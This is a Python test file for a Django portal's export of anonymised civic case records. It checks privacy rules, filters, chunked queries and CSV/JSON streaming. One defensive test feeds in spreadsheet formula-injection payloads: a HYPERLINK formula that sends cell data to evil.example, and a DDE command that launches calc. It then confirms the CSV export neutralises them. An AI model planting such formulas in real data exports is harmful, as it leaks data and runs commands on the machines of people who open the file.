"""Anonymised case records (issue 6 item 3): no personal data, privacy rules per kind, filters, streaming in
bounded queries."""

import csv
import datetime as dt
import io
import json

from django.db import connection
from django.test.utils import CaptureQueriesContext

from portal.transparency import exports
from portal.transparency.exports import ExportFilters, case_records

from .data import CONSENTED, NEEDLES, _submit, answer, build


def _by_code(records, world):
    ids = {exports.record_id(c.pk): name for name, c in vars(world).items()}
    return {ids[r["record_id"]]: r for r in records}


def test_every_record_has_exactly_the_documented_columns(opendata):
    records = list(case_records())
    assert len(records) == 6
    assert all(tuple(r) == exports.COLUMN_NAMES for r in records)


def test_no_record_contains_any_personal_data(opendata):
    text = repr(list(case_records())) + "".join(exports.stream_csv(case_records())) + \
        "".join(exports.stream_json(case_records()))
    for needle in NEEDLES:
        assert needle not in text, needle
    assert "0912345678" not in text and "912.345.678" not in text


def test_the_record_id_is_stable_and_is_not_the_tracking_code(opendata):
    first = [r["record_id"] for r in case_records()]
    assert first == [r["record_id"] for r in case_records()]
    assert len(set(first)) == len(first)
    codes = {c.tracking_code for c in vars(opendata).values()}
    assert not codes & set(first)


def test_free_text_only_for_consented_cases_that_are_not_denunciations(opendata):
    rows = _by_code(case_records(), opendata)
    consented = rows["consented"]
    assert consented["title"] == "Đường Lê Lợi ngập nước sau mưa"
    assert consented["tracking_code"] == opendata.consented.tracking_code
    assert "nạo vét cống" in consented["answer"]
    assert "Kính gửi bà [***]" in consented["answer"]
    assert CONSENTED["contact_name"] not in consented["description"]
    for name in ("not_consented", "denunciation"):
        assert rows[name]["title"] == rows[name]["description"] == rows[name]["answer"] == ""
        assert rows[name]["tracking_code"] == ""
    assert rows["unanswered"]["title"] == "Rác chưa được thu gom" and rows["unanswered"]["answer"] == ""


def test_a_denunciation_carries_no_area_no_channel_and_a_bucketed_signatory_count(opendata):
    row = _by_code(case_records(), opendata)["denunciation"]
    assert row["kind"] == "denunciation"
    assert row["area"] == "" and row["channel"] == ""
    assert row["signatories"] == "5+"
    assert row["category"] == "ha-tang" and row["ward"] == "PN17" and row["received_on"] == "2026-04-01"


def test_dates_due_date_and_on_time(opendata):
    rows = _by_code(case_records(), opendata)
    consented = rows["consented"]
    assert (consented["area"], consented["channel"], consented["state"]) == ("Khu phố 1", "web", "answered")
    assert consented["signatories"] == "2-4"
    assert (consented["received_on"], consented["answered_on"], consented["due_date"]) == (
        "2026-03-02", "2026-03-20", "2026-03-25")
    assert consented["answered_on_time"] is True
    assert rows["complaint"]["answered_on_time"] is False
    assert rows["unanswered"]["answered_on"] is None and rows["unanswered"]["answered_on_time"] is None
    assert rows["anonymous"]["signatories"] == "1"


def test_filters_by_ward_and_received_date(opendata):
    by_ward = list(case_records(ExportFilters(ward="BT01")))
    assert [r["kind"] for r in by_ward] == ["complaint"]
    window = _by_code(case_records(ExportFilters(received_from=dt.date(2026, 3, 1),
                                                 received_to=dt.date(2026, 4, 1))), opendata)
    assert set(window) == {"consented", "not_consented", "denunciation"}
    assert list(case_records(ExportFilters(ward="PN17", received_from=dt.date(2026, 6, 1)))) == \
        [r for r in case_records() if r["record_id"] == exports.record_id(opendata.unanswered.pk)]


def test_records_are_read_lazily_in_chunks(opendata):
    with CaptureQueriesContext(connection) as queries:
        records = case_records(chunk_size=2)
        next(records)
        after_first = len(queries)
        rest = list(records)
    assert after_first <= 2  # the first chunk and its answers, nothing more
    assert len(rest) == 5
    # 6 rows in chunks of 2: 3 chunks (the last full one is followed by an empty read) × (cases + answers)
    assert len(queries) <= 2 * 4


def test_queries_grow_with_chunks_not_rows(ward, other_ward, category, area):
    world = build(ward=ward, other_ward=other_ward, category=category, area=area)
    with CaptureQueriesContext(connection) as few:
        assert len(list(case_records(chunk_size=100))) == 6
    for n in range(3):  # three more worlds' worth of cases in the same wards
        build(ward=ward, other_ward=other_ward, category=category, area=area)
    with CaptureQueriesContext(connection) as many:
        assert len(list(case_records(chunk_size=100))) == 24
    assert len(many) == len(few) <= 2
    assert world


def test_the_schema_documents_every_column_filter_and_the_licence():
    schema = exports.schema()
    assert [c["name"] for c in schema["columns"]] == list(exports.COLUMN_NAMES)
    assert all(c["description"] for c in schema["columns"])
    assert set(schema["filters"]) == {"ward", "from", "to"}
    assert schema["licence"] == "CC BY 4.0 — OpenWard"


def test_the_streams_come_in_pieces_that_join_into_the_same_document(opendata, monkeypatch):
    whole_csv = "".join(exports.stream_csv(case_records()))
    whole_json = "".join(exports.stream_json(case_records()))
    monkeypatch.setattr(exports, "PIECE", 1)  # a piece per record
    csv_pieces = list(exports.stream_csv(case_records()))
    json_pieces = list(exports.stream_json(case_records()))
    assert len(csv_pieces) > 3 and "".join(csv_pieces) == whole_csv
    assert len(json_pieces) > 3 and "".join(json_pieces) == whole_json
    assert [r["record_id"] for r in json.loads(whole_json)] == [r["record_id"] for r in case_records()]


def test_a_text_that_a_spreadsheet_would_run_as_a_formula_is_defused_in_the_csv_only(db, ward, category):
    """CWE-1236: a published title such as =HYPERLINK(…) would run in the spreadsheet of whoever opens the data."""
    texts = {"title": '=HYPERLINK("http://evil.example/?x="&A1,"Xem chi tiết")',
             "description": "@SUM(1+1)*cmd|' /C calc'!A0 — mô tả đủ dài",
             "answer": "-1+1 Đã xử lý.\n+ tiếp theo"}
    case = _submit(ward=ward, category=category, title=texts["title"], description=texts["description"],
                   publish_consent=True)
    answer(case, texts["answer"])
    [row] = list(csv.DictReader(io.StringIO("".join(exports.stream_csv(case_records())).lstrip("\ufeff"))))
    for column, text in texts.items():
        assert row[column] == "'" + text, column
    assert row["ward"] == ward.code and row["kind"] == "feedback"  # other cells as they are
    [record] = json.loads("".join(exports.stream_json(case_records())))
    assert [record[column] for column in texts] == list(texts.values())  # JSON gives the texts as they are


def test_ordinary_texts_are_left_as_they_are_in_the_csv(db, ward, category):
    case = _submit(ward=ward, category=category, title="Đèn đường hẻm 12 bị hỏng", publish_consent=True,
                   description="Hẻm 12 — tối, 3-4 bóng đèn hỏng; số điện thoại đường dây nóng: 1022.")
    answer(case, "Đã thay 4 bóng đèn = xong.")
    [row] = list(csv.DictReader(io.StringIO("".join(exports.stream_csv(case_records())).lstrip("\ufeff"))))
    assert row["title"] == "Đèn đường hẻm 12 bị hỏng"
    assert row["description"].startswith("Hẻm 12") and row["answer"] == "Đã thay 4 bóng đèn = xong."
